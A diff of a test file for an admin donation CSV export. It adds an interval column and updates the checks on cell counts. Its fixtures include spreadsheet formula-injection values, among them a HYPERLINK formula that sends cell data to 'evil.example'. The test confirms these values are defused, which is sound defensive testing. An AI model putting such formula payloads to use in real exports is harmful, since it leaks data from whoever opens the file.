@@ -263,9 +263,10 @@ describe('admin donations', () => {
       'Credited (USD)',
       'Stripe payment',
       'Method',
+      'Interval',
     ]);
     assert.equal(rows.length, 7, 'header and six donations');
-    assert.ok(rows.every((r) => r.length === 17), 'seventeen cells in every row');
+    assert.ok(rows.every((r) => r.length === 18), 'eighteen cells in every row');
     const evil = rows.find((r) => r[3] === "'+cmd@example.org")!;
     assert.ok(evil, 'the e-mail starting with + is defused');
     assert.equal(evil[2], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
@@ -278,7 +279,8 @@ describe('admin donations', () => {
     assert.deepEqual([anna[5], anna[6], anna[7], anna[9], anna[10], anna[11], anna[14]], ['100.00', 'CHF', '110.00', 'One-off', 'Partially refunded', '40.00', '66.00']);
     // 22:30 UTC on 31 March is already 1 April in Lucerne (summer time): Swiss time, not UTC.
     const april = rows.find((r) => r[9] === 'Monthly')!;
-    assert.deepEqual([april[0], april[4]], ['2025-04-01 00:30', 'General Support']);
+    assert.deepEqual([april[0], april[4], april[17]], ['2025-04-01 00:30', 'General Support', 'Monthly']);
+    assert.equal(anna[17], '', 'a one-off gift has no interval');
     const lost = rows.find((r) => r[6] === 'EUR')!;
     assert.deepEqual([lost[10], lost[13]], ['Disputed', 'lost']);
     const audit = (await listAudit(h.deps.db, { entity: 'donations' }))[0]!;
@@ -309,9 +311,10 @@ describe('admin donations', () => {
       'Gutgeschrieben (USD)',
       'Stripe-Zahlung',
       'Zahlungsart',
+      'Rhythmus',
     ]);
     assert.equal(rows.length, 7);
-    assert.ok(rows.every((r) => r.length === 17), 'seventeen cells in every row, split at the semicolons');
+    assert.ok(rows.every((r) => r.length === 18), 'eighteen cells in every row, split at the semicolons');
     const anna = rows.find((r) => r[3] === 'anna@example.org')!;
     assert.equal(anna[0], '10.03.2025 10:00');
     assert.equal(anna[4], titleDe, 'the German title of the project');
